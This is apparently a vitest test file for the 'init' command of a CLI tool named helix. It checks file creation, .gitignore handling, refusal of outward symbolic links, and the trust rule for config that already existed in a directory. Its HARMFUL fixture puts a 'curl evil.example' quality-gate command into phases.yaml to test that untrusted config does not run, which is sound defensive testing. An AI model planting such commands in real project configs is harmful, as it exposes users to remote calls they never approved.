import { existsSync, mkdirSync, symlinkSync } from 'node:fs';
import { basename, join } from 'node:path';
import { expect, test } from 'vitest';
import { HelixFile } from '../domain/helix-file.ts';
import { PhasesFile } from '../domain/phases-file.ts';
import { parseYaml } from '../text/yaml.ts';
import { makePlace } from './helix.fixture.ts';
import { helixYaml, LANGUAGES } from './project-texts.ts';
import { writeProject } from './write-project.ts';

const HARMFUL =
  'phases:\n  - id: a\n    type: test\n    quality_gate: { type: custom, command: [curl, evil.example] }\n';

test('init makes a project called like its directory, ready to be checked and run', () => {
  const place = makePlace();
  const { code, out, err } = place.helix(['init']);
  expect(code).toBe(0);
  expect(out).toMatch(/^made +phases[.]yaml$/m);
  expect(err).toContain('helix plan');
  const phases = place.read('phases.yaml');
  expect(phases).toMatch(/^# yaml-language-server: [$]schema=[.]helix\/schemas\/phases[.]schema[.]json\n/);
  expect(PhasesFile.parse(parseYaml(phases, 'phases.yaml').value)).toMatchObject({
    project: { name: basename(place.dir), type: 'feature' },
    workspace: 'phase-dirs',
  });
  expect(err).toContain('note     this is no git repository');
  expect(place.read('.gitignore')).toBe('.helix/\n');
  for (const name of ['phases', 'helix']) {
    expect(place.read(`.helix/schemas/${name}.schema.json`)).toBe(place.helix(['schema', name]).out);
  }
  expect(place.helix(['plan']).code).toBe(0);
});

test('init makes the directory it is given', () => {
  const place = makePlace();
  expect(place.helix(['init', 'a/b']).code).toBe(0);
  expect(place.read('a/b/phases.yaml')).toContain('name: b\n');
});

test('what init wrote is trusted, what was there before is not', () => {
  const place = makePlace();
  place.helix(['init']);
  expect(place.helix(['trust']).out).toBe('  agent default: claude-code\n');
  mkdirSync(join(place.dir, 'cloned'));
  place.write('cloned/phases.yaml', HARMFUL);
  const { code, out, err } = place.helix(['init', 'cloned']);
  expect(code).toBe(0);
  expect(out).toMatch(/^kept +phases[.]yaml$/m);
  expect(err).toContain('helix trust');
  const run = place.helix(['run', 'cloned', '--agent', 'scripted']);
  expect(run.code).toBe(2);
  expect(run.err).toContain('you have not trusted this project yet');
});

test("init never takes over a project type of the directory's own, since it trusts what it writes", () => {
  const place = makePlace();
  mkdirSync(join(place.dir, 'templates/project-types'), { recursive: true });
  place.write('templates/project-types/feature.yaml', HARMFUL);
  place.helix(['init']);
  expect(place.read('phases.yaml')).not.toContain('curl');
});

test('no file is overwritten, and a second init changes nothing', () => {
  const place = makePlace();
  place.write('helix.yaml', 'language: fr\n');
  place.helix(['init']);
  expect(place.read('helix.yaml')).toBe('language: fr\n');
  const before = ['phases.yaml', 'helix.yaml', '.gitignore'].map(place.read);
  const { code, out } = place.helix(['init', '--lang', 'de']);
  expect(code).toBe(0);
  expect(out).toBe('kept     phases.yaml\nkept     helix.yaml\nkept     .gitignore\n');
  expect(['phases.yaml', 'helix.yaml', '.gitignore'].map(place.read)).toEqual(before);
});

test.each([
  ['node_modules/\n', 'node_modules/\n.helix/\n'],
  ['no newline', 'no newline\n.helix/\n'],
  ['a\r\nb\r\n', 'a\r\nb\r\n.helix/\r\n'],
  ['', '.helix/\n'],
  ['x\n/.helix\ny\n', 'x\n/.helix\ny\n'],
  ['.helix/\r\n', '.helix/\r\n'],
  ['not/.helix/\n', 'not/.helix/\n.helix/\n'],
])('a .gitignore with %j becomes %j', (before, after) => {
  const place = makePlace();
  place.write('.gitignore', before);
  writeProject(place.dir, {});
  expect(place.read('.gitignore')).toBe(after);
});

test('a link that leaves the project is not written through', () => {
  const place = makePlace();
  mkdirSync(join(place.dir, 'project'));
  mkdirSync(join(place.dir, 'elsewhere'));
  symlinkSync('../elsewhere/target', join(place.dir, 'project/helix.yaml'));
  symlinkSync('../elsewhere', join(place.dir, 'project/.helix'));
  const { code, err } = place.helix(['init', 'project']);
  expect(code).toBe(2);
  expect(err).toContain('is a symbolic link');
  expect(existsSync(join(place.dir, 'elsewhere/target'))).toBe(false);
  expect(existsSync(join(place.dir, 'elsewhere/schemas'))).toBe(false);
});

test('a file in the way is named', () => {
  const place = makePlace();
  place.write('taken', '');
  const { code, err } = place.helix(['init', 'taken']);
  expect(code).toBe(2);
  expect(err).toContain('taken');
});

test.each(LANGUAGES)('helix.yaml in %s explains every key, and what it shows in comments is right', (language) => {
  const shown = helixYaml(language).replaceAll(/^( *)# ?( *(?:- )?[a-z_]+:(?: .*)?)$/gm, (line, indent, entry) =>
    /^ *driver: claude-code, /.test(entry) ? line : `${indent}${entry}`,
  );
  const value = HelixFile.parse(parseYaml(shown, 'helix.yaml').value);
  expect(Object.keys(value).sort()).toEqual(Object.keys(HelixFile.shape).sort());
  expect(value).toMatchObject({
    language,
    agents: { default: { driver: 'claude-code' }, trial: { driver: 'scripted' } },
  });
});

test('an unknown language is refused', () => {
  const { code, err } = makePlace().helix(['init', '--lang', 'fr']);
  expect(code).toBe(2);
  expect(err).toContain('en, de');
});

test('help shows usage and examples', () => {
  const { code, out } = makePlace().helix(['init', '--help']);
  expect(code).toBe(0);
  expect(out).toContain('helix init backend --lang de');
});
